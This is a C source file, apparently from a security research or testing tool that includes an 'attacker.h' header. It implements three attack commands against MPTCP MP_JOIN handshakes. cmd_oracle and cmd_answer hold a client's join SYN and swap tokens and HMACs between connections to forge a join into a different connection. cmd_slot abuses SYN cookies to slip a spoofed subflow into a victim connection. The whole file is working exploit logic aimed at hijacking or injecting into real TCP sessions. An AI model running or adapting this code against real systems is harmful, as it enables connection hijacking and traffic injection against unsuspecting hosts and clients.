// SPDX-License-Identifier: GPL-2.0-only
/*
 * A join of the client's to one connection is held back, and what the client answers
 * in it is used for a join to another
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

/* From now on they are held: the first SYN. It comes within 20 times the patience */
uint8_t *hold_syn(struct frame *frame, struct segment *syn)
{
	uint8_t *join;

	hold_joins = true;
	join = next_join(JOIN_SYN_LEN, now_ms() + 20 * patience_ms, frame, syn);
	if (!join)
		printf(" no-join");
	return join;
}

/* The token of a SYN for connection @y, for @x in its place: the mask stays */
static uint32_t swap_token(const uint8_t *join, const struct connection *y,
			   const struct connection *x)
{
	return get32(join + 4) ^ key_token(y->keys[SERVER]) ^
	       key_token(x->keys[SERVER]);
}

/* The same with the HMAC of an ACK; each connection's join has nonces of its own */
static void swap_ack(const uint8_t *join, const struct connection *y,
		     const uint32_t *nonces_y, const struct connection *x,
		     const uint32_t *nonces_x, uint8_t *hmac)
{
	uint8_t hmac_y[SHA256_DIGEST_LENGTH];
	int i;

	join_hmac(x->keys[CLIENT], x->keys[SERVER], nonces_x[CLIENT],
		  nonces_x[SERVER], hmac);
	join_hmac(y->keys[CLIENT], y->keys[SERVER], nonces_y[CLIENT],
		  nonces_y[SERVER], hmac_y);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		hmac[i] ^= hmac_y[i] ^ join[4 + i];
}

/*
 * A join of the client to connection learn=Y is held, and what the client
 * answers is used for one to connection conn=X in its place, with the same
 * addresses: what masks the fields of Y might mask those of X. The client may
 * be another one than that of X, and on another path.
 */
bool cmd_oracle(void)
{
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	const struct connection *x, *y;
	struct frame frame, syn_frame;
	struct segment segment, syn;
	struct attempt attempt;
	uint64_t mask;
	uint8_t *join;

	join = hold_syn(&syn_frame, &syn);
	if (!join)
		return true;
	/* Connection Y may be younger than the command */
	if (!arg_connections(&x, &y))
		return false;

	start_attempt(&attempt, x, y, 0);
	held = attempt.from = syn.from;
	attempt.nonces[CLIENT] = get32(join + 8);
	attempt.token = swap_token(join, y, x);
	if (!syn_answered(&attempt))
		return true;

	mask = attempt.synack ^ synack_hmac(x, &attempt);
	send_synack(y->path == OTHER_HOST ? y->path : attempt.path, CLIENT,
		    &syn, synack_hmac(y, &attempt) ^ mask,
		    attempt.nonces[SERVER]);
	join = next_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
			 &segment);
	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
	if (!join)
		return true;

	swap_ack(join, y, attempt.nonces, x, attempt.nonces, hmac);
	end_join(&attempt, x, hmac);
	return true;
}

/*
 * The client's next join gets its answer from the attacker: with the HMAC of RFC 8684 under the
 * mask of the server's in the join that was kept, which was one of connection kept_of=N
 */
bool cmd_answer(void)
{
	int path = (int)arg_number("path", "2") - 1;
	const struct connection *x, *y = arg_connection("kept_of");
	struct attempt attempt = { 0 }, old = { 0 };
	struct frame frame, syn_frame;
	struct segment segment, syn;
	uint64_t mask;
	uint8_t *join;

	join = hold_syn(&syn_frame, &syn);
	if (!join)
		return true;
	x = last_connection();
	if (!x || !y || kept.seen != 3)
		return false;
	memcpy(old.nonces, kept.nonces, sizeof(old.nonces));
	mask = kept.synack ^ synack_hmac(y, &old);
	attempt.nonces[CLIENT] = get32(join + 8);
	attempt.nonces[SERVER] = random32();
	send_synack(path, CLIENT, &syn, synack_hmac(x, &attempt) ^ mask,
		    attempt.nonces[SERVER]);
	join = next_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
			 &segment);
	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
	return true;
}

/* The SYN/ACK of a join that is held; it goes on to the client as well */
static bool pass_synack(int path, int64_t until, uint32_t *seq, uint32_t *nonce)
{
	struct segment segment;
	struct frame frame;
	const uint8_t *join;

	while (pump(until, false, &frame)) {
		if (!parse_segment(&frame, &segment) ||
		    !same_endpoint(&segment.to, &held))
			continue;
		join = find_mptcp(&segment, MP_JOIN);
		if (!segment.tcp->syn || !join || join[1] != JOIN_SYNACK_LEN)
			continue;
		*seq = segment.seq;
		*nonce = get32(join + 12);
		pass_segment(path, SERVER, &frame, &segment);
		return true;
	}
	return false;
}

/*
 * With SYN cookies: a join of the client to connection learn=Y goes on up to its
 * ACK, which is held. A SYN with the same ports and sequence number from from=ADDR
 * leads to connection conn=X: the kernel keeps it where it has kept the client's.
 * Then the ACK comes from the client's address, as it has answered, but for X.
 */
bool cmd_slot(void)
{
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	int path = (int)arg_number("path", "1") - 1;
	uint32_t nonces[NR_SIDES], cookie;
	const struct connection *x, *y;
	struct frame frame, syn_frame;
	struct segment segment, syn;
	struct attempt attempt;
	uint8_t *join;

	join = hold_syn(&syn_frame, &syn);
	if (!join)
		return true;
	/* Connection Y may be younger than the command */
	if (!arg_connections(&x, &y))
		return false;

	start_attempt(&attempt, x, y, 0);
	held = syn.from;
	nonces[CLIENT] = get32(join + 8);
	attempt.from.port = syn.from.port;
	attempt.seq = syn.seq;
	attempt.nonces[CLIENT] = nonces[CLIENT];
	attempt.token = swap_token(join, y, x);
	pass_segment(path, CLIENT, &syn_frame, &syn);
	if (!pass_synack(path, now_ms() + 4 * patience_ms, &cookie,
			 &nonces[SERVER])) {
		printf(" no-answer");
		return true;
	}
	join = next_join(JOIN_ACK_LEN, now_ms() + 4 * patience_ms, &frame,
			 &segment);
	if (!join) {
		printf(" no-ack");
		return true;
	}

	if (!syn_answered(&attempt))
		return true;
	swap_ack(join, y, nonces, x, attempt.nonces, hmac);
	attempt.from = syn.from;
	attempt.peer_seq = cookie + 1;
	end_join(&attempt, x, hmac);
	return true;
}
